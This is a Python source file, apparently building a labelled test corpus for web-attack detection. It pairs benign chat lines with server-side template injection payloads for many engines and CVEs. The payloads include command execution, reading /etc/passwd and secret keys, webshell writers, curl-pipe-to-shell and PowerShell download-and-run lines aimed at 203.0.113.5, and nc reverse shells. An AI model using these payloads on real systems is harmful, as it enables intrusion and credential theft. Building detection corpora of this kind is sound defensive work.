    P('<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("freemarker.'
      'template.ObjectWrapper")><#assign dwf=owc.getField("DEFAULT_WRAPPER").get(null)><#assign ec=classloader.'
      'loadClass("freemarker.template.utility.Execute")>${dwf.newInstance(ec,null)("id")}',
      "/group/guest/~/control_panel/manage", "_com_liferay_journal_web_portlet_JournalPortlet_script", "rs-form"),
    '${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve("/etc/passwd").toURL()'
    '.openStream().readAllBytes()?join(" ")}',
    '[#assign cmd="freemarker.template.utility.Execute"?new()][=cmd("uname -a")]',
    P('${"freemarker.template.utility.Execute"?new()("curl http://203.0.113.5/s.sh -o /tmp/s.sh")}',
      "/catalog-portal/ui/oauth/verify?error=", "deviceUdid"),
    '<#assign value="freemarker.template.utility.Execute"?new()>${value("bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}")}',
    '${"freemarker.template.utility.ObjectConstructor"?new()("java.io.File","/etc")?api.list()?join(",")}',
]
SOLR_VELOCITY = ("q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName("
                 "%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))+%23set($str=$x."
                 "class.forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()+"
                 "%23set($out=$ex.getInputStream())+%23foreach($i+in+[1..$out.available()])$str.valueOf($chr.toChars("
                 "$out.read()))%23end")
CONFLUENCE_WIDGET = {"contentId": "786457", "macro": {"name": "widget", "body": "", "params": {
    "url": "https://www.viddler.com/v/23464dc5", "width": "1000", "height": "1000", "_template": "file:///etc/passwd"}}}
CONFLUENCE_WIDGET_RCE = {"contentId": "786458", "macro": {"name": "widget", "body": "", "params": {
    "url": "https://www.viddler.com/v/23464dc6", "width": "1000", "height": "1000",
    "_template": "ftp://203.0.113.5:2121/cmd.vm", "command": "id"}}}
# Velocity: Solr VelocityResponseWriter v.template.custom (CVE-2019-17558), Jira ContactAdministrators
# `subject` (CVE-2019-11581), the Confluence widget connector `_template` (CVE-2019-3396), and Velocity
# templates that admins edit (the $x.class.forName walk, ClassTool $class.inspect, #include / #parse)
VELOCITY: list[Entry] = [
    P(SOLR_VELOCITY, "/solr/db/select", "", "rs-raw-query", "raw-query"),
    P("$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')"
      ".waitFor()", "/secure/ContactAdministrators.jspa", "subject", "rs-form"),
    P(_doc(CONFLUENCE_WIDGET), "/rest/tinymce/1/macro/preview", "", "rs-json-body", "json-body"),
    P(_doc(CONFLUENCE_WIDGET_RCE), "/rest/tinymce/1/macro/preview", "", "rs-json-body", "json-body"),
    '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")',
    '$class.inspect("java.lang.Runtime").type.getRuntime().exec("id").waitFor()',
    '#set($x="")#set($rt=$x.class.forName("java.lang.Runtime").getRuntime())#set($p=$rt.exec(["bash","-c","id"]))'
    "$p.waitFor()",
    '#include("/etc/passwd")',
    '#parse("../../../../etc/passwd")',
    '$ctx.getClass().forName("java.lang.System").getenv()',
]
# Thymeleaf: Spring MVC controllers returning a view name or fragment selector built from the path or a
# `lang` / `section` parameter (__${...}__::.x preprocessing), the 3.0.12 "T (" space bypass, the nested
# SpelExpressionParser bypass, inline [[...]] / [(...)] and *{...} expressions in user-saved templates
THYMELEAF: list[Entry] = [
    P('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', "/doc/{}", "", "rs-path", "path"),
    P('__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec("id").getInputStream()).next()}__::.x',
      "/path", "lang"),
    P("__${T (java.lang.Runtime).getRuntime().exec('touch /tmp/thyme')}__::main.x", "/fragment", "section"),
    "[[${T(java.lang.System).getenv()}]]",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "[(${@environment.getProperty('spring.datasource.password')})]",
    P("__${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__::.x", "/admin/{}", "", "rs-path"),
    P("__${T(java.net.InetAddress).getByName('thyme.oast.example')}__::.x", "/path", "lang"),
    "[[${springRequestContext.environment.getProperty('AWS_SECRET_ACCESS_KEY')}]]",
    "__${new org.springframework.expression.spel.standard.SpelExpressionParser().parseExpression('T(java.lang.Runtime)"
    ".getRuntime().exec(\"id\")').getValue()}__::.x",
]
# ERB: Rails `render params[:id]` with an inline: hash (CVE-2016-2098), Rails apps that render admin-saved
# snippets and mailer bodies, Sinatra erb of user strings
ERB: list[Entry] = [
    P("id[inline]=<%25=%20`id`%20%25>", "/pages", "", "rs-raw-query", "raw-query"),
    P("template[inline]=<%25=%20system('cat%20/etc/passwd')%20%25>", "/welcome", "", "rs-raw-query", "raw-query"),
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= ENV['SECRET_KEY_BASE'] %>",
    "<%= require 'open3'; Open3.capture2('uname -a').first %>",
    P("<%= Rails.application.secrets.secret_key_base %>", "/admin/snippets", "snippet[body]", "rs-form"),
    "<% system('curl http://203.0.113.5/r.sh | bash') %>",
    "<%= `ls -la /` %>",
]
# Smarty: CMS Made Simple, PrestaShop and Tiki Wiki templates; {function} name injection (CVE-2021-26120),
# {math} octal-escaped equation (CVE-2021-29454), the Smarty_Internal_Write_File webshell writer, {php}
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    '{math equation="(\\"\\163\\171\\163\\164\\145\\155\\")(\\"\\151\\144\\")"}',
    "{if system('cat /etc/passwd')}{/if}",
    "{fetch file='file:///etc/passwd'}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(\"id\")}')}",
    "{Smarty_Internal_Runtime_WriteFile::writeFile('./shell.php','<?php eval($_POST[1]);?>',$smarty)}",
    "{$s=shell_exec('id')}{$s}",
]
HB_GADGET = ('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup '
             'string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push '
             '"CODE"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}'
             "{{/with}}{{/with}}{{/with}}{{/with}}")
HB_GADGET_LINES = HB_GADGET.replace("}}{{", "}}\n  {{")
# Handlebars: Node.js apps compiling user templates before prototype access was closed (the split/pop/push
# gadget behind CVE-2019-19919, as in the Shopify Return Magic report), and lookup/constructor probes
HANDLEBARS: list[Entry] = [
    P(HB_GADGET.replace("CODE", "return require('child_process').execSync('cat /etc/passwd');"), "/api/templates",
      "body", "rs-json"),
    HB_GADGET_LINES.replace("CODE", "return require('child_process').execSync('ls -la');"),
    HB_GADGET.replace("CODE", "return process.mainModule.require('child_process').exec('curl http://203.0.113.5/h.sh|"
                              "sh');"),
    HB_GADGET.replace("CODE", "return JSON.stringify(process.env);"),
    HB_GADGET_LINES.replace("CODE", "return global.process.mainModule.constructor._load('child_process')"
                                    ".execSync('whoami');"),
    '{{#with "constructor" as |c|}}{{#with (lookup (lookup this c) c) as |F|}}{{#with (F "return process.mainModule'
    ".require('child_process').execSync('id')\") as |run|}}{{run}}{{/with}}{{/with}}{{/with}}",
    "{{lookup (lookup this 'constructor') 'name'}}",
    "{{this.constructor.constructor}}",
    '{{#with (lookup this "__proto__") as |p|}}{{p.constructor.name}}{{/with}}',
    HB_GADGET.replace("CODE", "return require('fs').readFileSync('/etc/shadow','utf8');"),
]
# Pug: Express apps compiling user text, and the `pretty` compile option taken from the query (CVE-2021-21353)
PUG: list[Entry] = [
    P("pretty=');process.mainModule.constructor._load('child_process').exec('id');_=('", "/", "", "rs-raw-query",
      "raw-query"),
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl "
    "203.0.113.5/p.sh | sh')}()}",
    "- var x = root.process\n- x = x.mainModule.require\n- x = x('child_process')\n"
    "= x.exec('id | nc 203.0.113.5 4444')",
    "#{global.process.mainModule.require('child_process').execSync('id')}",
    "p= global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "- global.process.mainModule.require('child_process').exec('touch /tmp/pug')",
    "include /etc/passwd",
    "#[p= process.env.AWS_SECRET_ACCESS_KEY]",
    "!{process.mainModule.require('child_process').spawnSync('id').stdout}",
    "- var cp = global.process.mainModule.constructor._load('child_process'); cp.execSync('rm -f /tmp/f;mkfifo /tmp/f;"
    "cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f')",
]
# Mako: Pyramid / Pylons apps and report builders rendering user text as a Template (the module.cache.util.os
# and runtime.util.os walks, <% %> blocks, <%! %> imports, <%include>)
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system('id')}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.template.module.cache.util.os.popen('uname -a').read()}",
    "${self.module.runtime.util.os.system('whoami')}",
    "${self.attr._NSAttr__parent.module.cache.util.os.system('id')}",
    "${self.context._with_template.module.cache.util.os.popen('id').read()}",
    "<%include file='/etc/passwd'/>",
    "${open('/etc/passwd').read()}",
]
# Tornado: tornado.template.Template over user text ({% import %}, {% raw %}, {% apply %}, {% module %}, and
# handler.settings leaking cookie_secret)
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{{handler.settings}}",
    "{{handler.application.settings['cookie_secret']}}",
    "{% import subprocess %}{{ subprocess.check_output('cat /etc/passwd', shell=True) }}",
    "{{__import__('os').system('id')}}",
    "{% raw __import__('os').popen('uname -a').read() %}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('subprocess').getoutput('id') %}{{x}}",
    "{% module __import__('os').system('id') %}",
    "{% include '../../../../etc/passwd' %}",
]
# Nunjucks: Express / Eleventy / Keystone apps calling renderString on user text (the range / cycler / joiner
# function constructors)
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() | dump }}",
    "{{ joiner.constructor(\"return global.process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
    "{{ ''.constructor.constructor(\"return process\")().mainModule.require('child_process').execSync('whoami') }}",
    "{% set x = range.constructor(\"return process.mainModule.require('child_process').execSync('uname -a')"
    ".toString()\")() %}{{ x }}",
    "{% include '/etc/passwd' %}",
    "{{ range.constructor('return this')().process.env.AWS_SECRET_ACCESS_KEY }}",
    "{{ range.constructor('return process.versions')() | dump }}",
    "{{ 'a'.toString.constructor(\"return process.mainModule.require('child_process').spawnSync('id').stdout"
    ".toString()\")() }}",
    "{{ cycler.constructor(\"process.mainModule.require('child_process').exec('curl http://203.0.113.5/n.sh|sh')\")()"
    " }}",
]
# EJS: Express res.render(view, req.query) letting settings[view options] reach outputFunctionName
# (CVE-2022-29078) and escapeFunction with client; templates saved from user text (<%- %>, include)
EJS: list[Entry] = [
    P("settings[view%20options][outputFunctionName]=x;process.mainModule.require('child_process').execSync('touch%20"
      "/tmp/pwned');s", "/", "", "rs-raw-query", "raw-query"),
    P("settings[view%20options][client]=1&settings[view%20options][escapeFunction]=1;return%20global.process."
      "mainModule.constructor._load('child_process').execSync('id');", "/page", "", "rs-raw-query", "raw-query"),
    "<%- global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    "<% include /etc/passwd %>",
    "<%- include('/etc/passwd') %>",
    "<%= global.process.mainModule.require('fs').readdirSync('/') %>",
    "<%= process.env.DATABASE_URL %>",
    "<%_ global.process.mainModule.require('child_process').exec('curl http://203.0.113.5/e.sh | sh') _%>",
    "<%= this.constructor.constructor('return process')().pid %>",
    "<%= global.process.mainModule.constructor._load('child_process').execFileSync('id') %>",
]
# Pebble: Java apps with user-editable Pebble templates ((1).TYPE.forName reflection past the 3.x method
# blocklist, getClass() on older releases, the pebble-spring `beans` map)
PEBBLE: list[Entry] = [
    "{% set cmd = 'id' %}{% set bytes = (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd)"
    ".inputStream.readAllBytes() %}{{ (1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes])"
    ".toArray()) }}",
    "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
    "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('touch /tmp/pebble') }}",
    "{{ beans.get('environment').getProperty('spring.datasource.password') }}",
    "{{ request.servletContext.getAttribute('org.apache.tomcat.InstanceManager') }}",
    "{% for m in (1).TYPE.forName('java.lang.Runtime').methods %}{{ m.name }} {% endfor %}",
    "{{ 'a'.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0].newInstance(['id']).start() }}",
    "{{ (1).TYPE.forName('java.nio.file.Files').readAllLines((1).TYPE.forName('java.nio.file.Paths').get('/etc/passwd'"
    ")) }}",
    "{% set x = (1).TYPE.forName('java.lang.System').getenv() %}{{ x }}",
    '{% include "/proc/self/environ" %}',
]
# Razor: .NET apps compiling user text with RazorEngine (skins, e-mail templates of DNN/Umbraco-style CMSs)
RAZOR: list[Entry] = [
    '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")',
    '@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c '
    'ipconfig"; p.StartInfo.RedirectStandardOutput = true; p.StartInfo.UseShellExecute = false; p.Start(); } '
    "@p.StandardOutput.ReadToEnd()",
    '@System.IO.File.ReadAllText(@"C:\\Windows\\win.ini")',
    "@foreach(System.Collections.DictionaryEntry e in System.Environment.GetEnvironmentVariables()){<p>@e.Key="
    "@e.Value</p>}",
    '@string.Join(",", System.IO.Directory.GetFiles(@"C:\\inetpub\\wwwroot"))',
    '@(new System.Net.WebClient().DownloadString("http://203.0.113.5/x.txt"))',
    '@{ System.IO.File.WriteAllText(@"C:\\inetpub\\wwwroot\\s.aspx", "<%@ Page Language=\'C#\' %><%= System.'
    'Diagnostics.Process.Start(Request.QueryString[0]) %>"); }',
    '@System.Diagnostics.Process.Start("powershell","-nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('
    "'http://203.0.113.5/a.ps1')\")",
    "@System.Security.Principal.WindowsIdentity.GetCurrent().Name",
    '@Html.Raw(System.IO.File.ReadAllText(Server.MapPath("~/web.config")))',
]
# Go templates: Hugo (readFile, os.ReadFile), gomplate (file.Read, getenv), Helm/sprig (env, lookup), Caddy
# templates (include, listFiles), apps that execute user text against a context (printf "%#v" dumps, the
# text/template define/template XSS)
GO_TEMPLATES: list[Entry] = [
    '{{ readFile "/etc/passwd" }}',
    '{{ os.ReadFile "/etc/passwd" }}',
    '{{ env "AWS_SECRET_ACCESS_KEY" }}',
    '{{ file.Read "/etc/shadow" }}',
    '{{ printf "%#v" . }}',
    '{{define "T1"}}<script>alert(document.cookie)</script>{{end}}{{template "T1"}}',
    '{{include "/etc/passwd"}}',
    '{{ getenv "DATABASE_URL" }}',
    '{{.Host}}{{listFiles "/"}}',
    '{{ lookup "v1" "Secret" "kube-system" "" | toJson }}',
]
# Liquid: Shopify themes and notification templates, Jekyll sites, LiquidJS in Node apps (include / render /
# layout traversal, object dumps, the arithmetic probe testers use to spot the engine)
LIQUID: list[Entry] = [
    "{{ 1337 | times: 1337 }}",
    "{% include '../../../../../etc/passwd' %}",
    "{% render '/etc/passwd' %}",
    "{{ site | jsonify }}",
    "{{ settings | json }}",
    "{% layout '../../../../etc/passwd' %}",
    "{% include_relative ../_config.yml %}",
    "{% capture x %}{% include '/proc/self/environ' %}{% endcapture %}{{ x | escape }}",
    "{% assign f = 'C:\\Windows\\win.ini' %}{% include f %}",
    "{{ page | inspect }}",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("generic", "nodejs-injection", NODE),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "ssrf-cloud-metadata", SSRF_METADATA),
    ("generic", "ssrf-internal-ip", SSRF_IP),
    ("generic", "javascript-prototype-pollution", POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-names", JAVA_CLASS),
    ("java", "java-process-spawn", JAVA_SPAWN),
    ("java", "java-serialization", JAVA_SER),
    ("java", "java-deserialization-gadget", JAVA_GADGET),
    ("java", "log4shell", LOG4J),
    ("java", "expression-language", EL),
    ("java", "java-polymorphic-deserialization", POLY),
    ("java", "class-loading", CLASS_LOADING),
    ("java", "jsp-upload", JSP_UPLOAD),
    ("ssti", "jinja2", JINJA2),
    ("ssti", "twig", TWIG),
    ("ssti", "freemarker", FREEMARKER),
    ("ssti", "velocity", VELOCITY),
    ("ssti", "thymeleaf", THYMELEAF),
    ("ssti", "erb", ERB),
    ("ssti", "smarty", SMARTY),
    ("ssti", "handlebars", HANDLEBARS),
    ("ssti", "pug", PUG),
    ("ssti", "mako", MAKO),
    ("ssti", "tornado", TORNADO),
    ("ssti", "nunjucks", NUNJUCKS),
    ("ssti", "ejs", EJS),
    ("ssti", "pebble", PEBBLE),
    ("ssti", "razor", RAZOR),
    ("ssti", "go-templates", GO_TEMPLATES),
    ("ssti", "liquid", LIQUID),
]

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_CYCLE = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
              "param-name", "xml", "multipart-field", "path"]
LATIN_REAL_CYCLE = ["query", "form", "param-name"]
RS_CYCLE = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Test-Header", "rs-cookie", "rs-param-name", "rs-multipart-field"]
LATIN_RS_CYCLE = ["rs-query", "rs-form", "rs-raw-body"]
REAL_NAMES = ["q", "filter", "name", "template", "url", "callback", "data", "sort", "message"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
PATH_SAFE = "/:!,=@"
# a raw query string goes as the exploit wrote it: only what cannot stand in a request line is escaped
WIRE_SAFE = "".join(chr(c) for c in range(0x21, 0x7F) if chr(c) != "#")
JSP_STUB = '<%out.println("upload-check");%>'
def _enc(value: str, latin: bool, safe: str = "") -> str:
    return urllib.parse.quote(value.encode("latin-1") if latin else value.encode(), safe=safe)


def _wire(value: str) -> str:
    return urllib.parse.quote(value.encode(), safe=WIRE_SAFE)


def _join(path: str, query: str) -> str:
    return path + ("&" if "?" in path else "?") + query


def _xml_body(value: str, root: str, name: str) -> str:
    if value.startswith("<") and len(value) > 1 and (value[1].isalpha() or value[1] == "?"):
        return value   # the payload is the document (XMLDecoder, XStream, XML-RPC, SOAP)
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{escaped}</{name}></{root}>'


class _Set(BlindSet):
    """Bodies and benign records; this set's placements are its own (_real, _rs)."""

    prefix = NAME
    boundary = "----WebKitFormBoundaryq8ZkR2tVb7mJx4Ne"


SET = _Set()
MULTIPART = SET.multipart_type


def _kv(v: str) -> tuple[str, str]:
    key, _, value = v.partition("=")
    return key, value


def _real(place: str, name: str, v: str, e: P) -> dict[str, Any]:
    """Our routes."""
    latin = e.latin
    if place == "query":
        return _get("/api/users?" + _enc(name, False) + "=" + _enc(v, latin) + "&page=1")
    if place == "raw-query":
        return _get("/api/users?" + _wire(v))
    if place == "form":
        return request("POST", "/admin/users/search", "csrf_token=t0k3n&" + _enc(name, False) + "=" + _enc(v, latin),
                         FORM, Accept="text/html")
    if place == "raw-form":
        return request("POST", "/admin/users/search", "csrf_token=t0k3n&" + v, FORM, Accept="text/html")
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: v})
    if place == "json-body":
        return {**_json("/api/users", {}), "body": v}
    if place.startswith("body:"):
        return request("POST", "/api/users", v, place[5:])
    if place == "cookie":
        cookie = "session=abc123; " + name + "=" + _enc(v, latin, COOKIE_SAFE)
        return request("GET", "/api/users?page=1", Cookie=cookie)
    if place.startswith("header:"):
        return request("GET", "/api/users?page=1", **{place.split(":", 1)[1]: v})
    if place == "param-name":
        return _get("/api/users?" + _enc(v, latin) + "=1&page=1")
    if place == "xml":
        return request("POST", "/api/users", _xml_body(v, "user", name), "application/xml")
    if place == "multipart-field":
        parts: list[Part] = [("csrf_token", "t0k3n", None), (name, v, None)]
        if e.fname:
            parts.append(("file", JSP_STUB, e.fname))
        return request("POST", "/admin/users/import", SET.multipart(parts), MULTIPART)
    if place == "multipart-kv":
        key, value = _kv(v)
        body = SET.multipart([("csrf_token", "t0k3n", None), (key, value, None)])
        return request("POST", "/admin/users/import", body, MULTIPART)
    if place == "multipart-filename":
        return request("POST", "/admin/users/import",
                        SET.multipart([("csrf_token", "t0k3n", None), ("file", JSP_STUB, v)]), MULTIPART)
    if place == "multipart-file":
        return request("POST", "/admin/users/import",
                        SET.multipart([("csrf_token", "t0k3n", None), ("file", v, e.fname or "upload.bin")]), MULTIPART)
    if place == "path":
        return _get("/api/users/" + _enc(v, latin))
    raise ValueError(place)


def _rs(place: str, path: str, name: str, v: str, e: P) -> dict[str, Any]:
    """The product's exploit request (or a regression suite's, for payloads without a product)."""
    latin = e.latin
    if place == "rs-query":
        return request("GET", _join(path, _enc(name, False, "[]") + "=" + _enc(v, latin)))
    if place == "rs-raw-query":
        return request("GET", _join(path, _wire(v)))
    if place == "rs-form":
        return request("POST", path, _enc(name, False, "[]") + "=" + _enc(v, latin), FORM)
    if place == "rs-raw-body":
        return request("POST", path, _enc(v, True) if latin else v, FORM)
    if place == "rs-json":
        return request("POST", path, json.dumps({name: v}), "application/json")
    if place == "rs-json-body":
        return request("POST", path, v, "application/json")
    if place.startswith("rs-body:"):
        return request("POST", path, v, place[8:])
    if place == "rs-xml":
        return request("POST", path, _xml_body(v, "root", name), "text/xml")
    if place.startswith("rs-header:"):
        return request("GET", path, **{place.split(":", 1)[1]: v})
    if place == "rs-cookie":
        return request("GET", path, Cookie=name + "=" + _enc(v, latin, COOKIE_SAFE))
    if place == "rs-param-name":
        return request("GET", _join(path, _enc(v, latin) + "=1"))
    if place == "rs-path":
        return request("GET", path.replace("{}", _enc(v, latin, PATH_SAFE)) if "{}" in path
                        else path.rstrip("/") + "/" + _enc(v, latin, PATH_SAFE))
    if place == "rs-put":
        return request("PUT", path, v, "text/plain")
    if place == "rs-multipart-field":
        parts: list[Part] = [(name, v, None)]
        if e.fname:
            parts.insert(0, ("Upload", JSP_STUB, e.fname))
        return request("POST", path, SET.multipart(parts), MULTIPART)
    if place == "rs-multipart-kv":
        key, value = _kv(v)
        return request("POST", path, SET.multipart([(key, value, None)]), MULTIPART)
    if place == "rs-multipart-filename":
        return request("POST", path, SET.multipart([(name or "file", JSP_STUB, v)]), MULTIPART)
    if place == "rs-multipart-file":
        return request("POST", path, SET.multipart([(name or "file", v, e.fname or "upload.bin")]), MULTIPART)
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    """Header-borne and path placements need a printable single-line ASCII value."""
    if place.startswith(("header:", "rs-header:")) or place in ("cookie", "rs-cookie"):
        return header_safe(v)
    if place in ("path", "rs-path"):
        return all(" " <= ch <= "~" for ch in v) and len(v) < 6000
    return True


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for s, (category, sub, entries) in enumerate(FAMILIES):
        for i, entry in enumerate(entries):
            e = entry if isinstance(entry, P) else P(entry)
            real_cycle, rs_cycle = (LATIN_REAL_CYCLE, LATIN_RS_CYCLE) if e.latin else (REAL_CYCLE, RS_CYCLE)
            real_place = e.real or real_cycle[(i + s) % len(real_cycle)]
            rs_place = e.rs or ("rs-query" if e.name else rs_cycle[(i + 2 * s) % len(rs_cycle)])
            if not _fits(real_place, e.payload):
                if e.real:
                    raise ValueError(f"{sub} {i}: {real_place} cannot carry the payload")
                real_place = ["json", "form", "query"][i % 3]
            if not _fits(rs_place, e.payload):
                if e.rs:
                    raise ValueError(f"{sub} {i}: {rs_place} cannot carry the payload")
                rs_place = ["rs-json", "rs-form", "rs-query"][i % 3]
            plain = e.name.replace(".", "").replace("_", "").replace("-", "").isalnum() and len(e.name) < 40
            name = e.name if plain else REAL_NAMES[(i + s) % len(REAL_NAMES)]
            rs_path = e.path or RS_PATHS[(i + s) % len(RS_PATHS)]
            rs_name = e.name or RS_NAMES[(i + 3 * s) % len(RS_NAMES)]
            for place, rec in ((real_place, _real(real_place, name, e.payload, e)),
                               (rs_place, _rs(rs_place, rs_path, rs_name, e.payload, e))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": e.payload}


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same products, keywords and syntax, typed innocently (Slack chat and bios, searches, links to
# advisories and docs, admin notes, profiles, upload names, ordinary client headers)
CHAT = [
    "Confluence is back up after the 8.5.x upgrade, the CVE-2023-22527 fix is in. Please log in again.",
    "Jira ticket OPS-4412: the ContactAdministrators form is disabled on our instance anyway, closing as not affected",
    "anyone know why Jenkins shows 'script approval pending' for the Groovy step in the release pipeline?",
    "Struts 2 is only in the old partner portal, we're migrating it to Spring Boot 3 this quarter",
    "log4j-core is 2.17.1 everywhere now, I checked with `mvn dependency:tree | grep log4j`",
    "the Solr core for product search needs a reindex, I'll run the import tonight",
    "Elasticsearch heap is at 85%, bumping to 8g on the data nodes",
    "WebLogic license renewal is on Thursday, finance needs the CPU count",
    "Tomcat 10.1.19 rollout done; the manager app is not deployed in prod",
    "Kibana dashboard for checkout latency is pinned in #sre, ping me if the link is broken",
    "GitLab runner on build-3 is stuck again, restarting the docker service",
    "the Exchange migration to M365 is finished, the on-prem server will be decommissioned in June",
    "Grafana alert: p99 over 800ms for /api/orders for 10 minutes, looking",
    "Nexus cleanup policy deleted the old snapshots, 300GB freed",
    'we use Thymeleaf fragments like th:replace="~{fragments/header :: header}" for the admin layout',
    "in the Jinja2 template use {% for item in items %}{{ item.name }}{% endfor %}, not a Python loop",
    "Shopify order confirmation: Hi {{ customer.first_name }}, thanks for order {{ order.name }}!",
    "Helm chart: the image tag is read from {{ .Values.image.tag }}, bump it in values-prod.yaml",
    "Handlebars partials live in views/partials, register them with hbs.registerPartials",
    "the EJS layout uses <%- include('partials/footer') %> for the footer",
    "Twig tip: {{ product.price|number_format(2, '.', ',') }} formats the price",
    "FreeMarker in the report service: ${order.total?string.currency} prints the total",
    "Velocity email template has $customer.name in the greeting line, looks fine in the preview",
    "Pug mixin for buttons: +button('Save', 'primary')",
    "Liquid in Jekyll: {% include footer.html %} only works for files inside _includes",
    "Razor view: @Model.UserName shows in the navbar, @Html.ActionLink for the logout link",
    "alertmanager Slack title is {{ .CommonLabels.alertname }}, the summary comes from annotations",
    "Smarty is only in the legacy PrestaShop store, {$product.name} lives in product.tpl",
    "Eleventy docs site: {{ page.url }} goes into the canonical link tag",
    "Mako templates in the old Pyramid admin use ${request.route_url('home')} for links",
    "Tornado templates aren't used anymore, everything is rendered client side",
    "Pebble in the invoice service: {{ invoice.number }} and a {% for line in lines %} loop",
    "ERB in the Rails mailer: <%= @user.name %> is fine, please don't add logic there",
    "node-serialize was removed from package.json last year, npm audit flagged it",
    "npm audit says lodash < 4.17.21 has prototype pollution, upgrading the admin UI deps",
    "express-fileupload bumped to 1.4.x, parseNested stays off",
    "we enforce IMDSv2 on all EC2 instances now (HttpTokens=required), the old launch template is gone",
    "the webhook fetcher blocks 169.254.169.254 and the private ranges, tested last sprint",
    "redis listens on 127.0.0.1:6379 only, no external bind",
    "Ruby 3.3 upgrade for billing: Psych 4 makes YAML.load safe by default, two specs needed fixing",
    "Perl cron scripts in /opt/legacy still use two-argument open(), tech debt ticket filed",
    "ExifTool on the media workers is 12.76 now",
    "AWStats reports are replaced by Plausible, the cgi-bin directory is gone",
    "the Movable Type blog archive is static now, no more mt-xmlrpc.cgi",
    "PHP 8.3 on the marketing site, allow_url_include is Off (the default anyway)",
    "data: URLs for the small icons in the email template are fine, Gmail renders them",
    "Java 21 update: the Nashorn engine is gone from ScriptEngineManager, use GraalJS instead",
    "the PDF exporter calls ProcessBuilder with a fixed argument list, no shell involved",
    "Jackson default typing stays disabled, @JsonTypeInfo only on our own DTOs",
    "fastjson is being replaced by Jackson in the Android backend, ticket ANDR-210",
    "XStream allowlist is set up in the config importer (XStream.allowTypes)",
    "Spring Boot actuator only exposes health and info in prod",
    "Jolokia was removed from the ActiveMQ console image",
    "H2 console is enabled in the dev profile only (spring.h2.console.enabled=true)",
    "Metabase upgraded to 0.46.6.1, the setup token issue is patched",
    "the OFBiz demo instance for training is offline until the upgrade",
    "Liferay: the script console is restricted to the portal admins",
    "Spring Cloud Gateway route for /api/orders has retries now",
    "JSP pages in the legacy admin are read-only, new pages go in React",
    "please don't upload .jsp or .war files to the shared drive, the scanner quarantines them",
    "the Tomcat default servlet has readonly=true, so PUT is refused, confirmed with the pentesters",
    "VMware Workspace ONE patch window is Saturday 22:00-02:00",
    "UniFi controller updated, the 7.x release notes mention the log4j fix",
    "Citrix ADC firmware 13.1-49 is live on both nodes",
    "F5 BIG-IP iControl REST is only reachable from the management VLAN",
